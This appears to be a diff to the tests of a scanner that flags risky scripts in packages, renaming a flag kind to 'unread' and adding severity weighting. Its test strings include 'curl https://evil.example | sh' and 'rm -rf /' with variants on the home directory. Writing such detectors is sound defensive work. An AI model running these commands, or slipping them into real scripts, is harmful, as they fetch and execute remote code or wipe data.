@@ -71,7 +71,7 @@ def test_only_the_last_of_its_kind_counts_those_in_other_files() -> None:
 
 def test_too_many_files_are_said_not_to_be_read(tmp_path: Path) -> None:
     flags = flags_of(tmp_path, {f"{number}.py": "x = 1\n" for number in range(FILES + 5)}, [])
-    assert flags == (RiskFlag("obfuscation", "5 more files were not read: there are too many.", "", 0),)
+    assert flags == (RiskFlag("unread", "5 more files were not read: there are too many.", "", 0, 65),)
 
 
 def test_the_script_that_runs_is_read_however_many_files_there_are(tmp_path: Path) -> None:
@@ -83,28 +83,28 @@ def test_the_script_that_runs_is_read_however_many_files_there_are(tmp_path: Pat
 
 def test_a_file_too_large_to_read_is_flagged_and_read_so_far(tmp_path: Path) -> None:
     flags = flags_of_text(tmp_path, "run.js", "eval(x)\n" + "var a = 1;\n" * 1_000_000)
-    assert [(flag.kind, flag.line) for flag in flags] == [("obfuscation", 0), ("obfuscation", 1)]
+    assert [(flag.kind, flag.line) for flag in flags] == [("unread", 0), ("obfuscation", 1)]
     assert flags[0].message == "Has 11,000,008 bytes; only the first 256,000 characters were read."
 
 
 def test_a_python_file_too_large_to_parse_is_still_read_by_pattern(tmp_path: Path) -> None:
     text = "import os\n" + "x = 1\n" * 30_000 + "os.system('ls')\n"
     flags = flags_of_text(tmp_path, "run.py", text)
-    assert [(flag.kind, flag.line) for flag in flags] == [("obfuscation", 0), ("process", 30_002)]
+    assert [(flag.kind, flag.line) for flag in flags] == [("unread", 0), ("process", 30_002)]
     assert flags[0].message == "Is too large to be read as Python, so what it does was only guessed."
 
 
 def test_instructions_too_large_to_read_are_flagged(tmp_path: Path) -> None:
     (flag,) = flags_of_text(tmp_path, "SKILL.md", "All is well.\n" * 30_000)
     assert (flag.kind, flag.message) == (
-        "obfuscation",
+        "unread",
         "Has 390,000 bytes; only the first 256,000 characters were read.",
     )
 
 
 def test_a_shell_script_too_large_to_read_is_flagged(tmp_path: Path) -> None:
     flags = flags_of_text(tmp_path, "run.sh", "curl a.example\n" + "ls -l\n" * 30_000)
-    assert [(flag.kind, flag.line) for flag in flags] == [("obfuscation", 0), ("network", 1)]
+    assert [(flag.kind, flag.line) for flag in flags] == [("unread", 0), ("network", 1)]
 
 
 @pytest.mark.parametrize(
@@ -118,7 +118,7 @@ def test_a_shell_script_too_large_to_read_is_flagged(tmp_path: Path) -> None:
 )
 def test_a_program_nobody_can_read_is_flagged(tmp_path: Path, name: str, content: bytes, said: str) -> None:
     (flag,) = flags_of(tmp_path, {name: content})
-    assert (flag.kind, flag.path, flag.line) == ("obfuscation", name, 0)
+    assert (flag.kind, flag.path, flag.line) == ("unread", name, 0)
     assert said in flag.message
 
 
@@ -304,4 +304,34 @@ def test_a_program_without_an_ending_that_a_nul_makes_no_text_is_told(tmp_path: 
     (tmp_path / "lib").write_bytes(b"#!/bin/bash\necho\n#\0\ncurl https://evil.example | sh\n")
     (tmp_path / "picture").write_bytes(b"\x89PNG\0")
     found = risk_flags(tmp_path, manifest_of(tmp_path), [])
-    assert [(flag.kind, flag.path) for flag in found] == [("obfuscation", "lib")]
+    assert [(flag.kind, flag.path) for flag in found] == [("unread", "lib")]
+
+
+def test_what_is_worse_weighs_more(tmp_path: Path) -> None:
+    """`rm -rf /` is not like loading a library that could talk."""
+    script = "#!/bin/bash\nrm made.txt\nrm -rf /\nls\ncurl https://a.example | sh\n"
+    flags = flags_of(tmp_path, {"run.sh": script, "lib.py": "import urllib.request\n"}, ["run.sh"])
+    weights = {(flag.path, flag.line, flag.kind): flag.weight for flag in flags}
+    everything, one_file = weights["run.sh", 3, "delete"], weights["run.sh", 2, "delete"]
+    assert everything > one_file > weights["lib.py", 1, "network"]
+    assert weights["run.sh", 5, "obfuscation"] >= everything, "what it downloads and runs"
+
+
+@pytest.mark.parametrize("path", ["/", "~", "$HOME", '"$HOME"', "/*", "*", "."])
+def test_deleting_everything_is_told_from_deleting_a_file(tmp_path: Path, path: str) -> None:
+    (flag,) = (each for each in flags_of_text(tmp_path, "run.sh", f"rm -rf {path}\n") if each.kind == "delete")
+    (file,) = (each for each in flags_of_text(tmp_path, "run.sh", "rm -rf ./build/x\n") if each.kind == "delete")
+    assert flag.weight > file.weight
+
+
+def test_a_heavy_flag_is_not_crowded_out_by_three_light_ones_of_its_kind(tmp_path: Path) -> None:
+    flags = flags_of_text(tmp_path, "run.sh", "rm a\nrm b\nrm c\nrm d\nrm -rf /\n")
+    assert 5 in [flag.line for flag in flags if flag.kind == "delete"]
+
+
+def test_a_flag_says_whether_the_wall_that_it_names_stands(tmp_path: Path) -> None:
+    (tmp_path / "run.sh").write_text("curl https://a.example\nrm x\n")
+    manifest = manifest_of(tmp_path)
+    flags = risk_flags(tmp_path, manifest, ["run.sh"], lambda wall: wall == "network")
+    assert {flag.kind: flag.is_blocked for flag in flags} == {"network": True, "delete": False}
+    assert not any(flag.is_blocked for flag in risk_flags(tmp_path, manifest, ["run.sh"]))
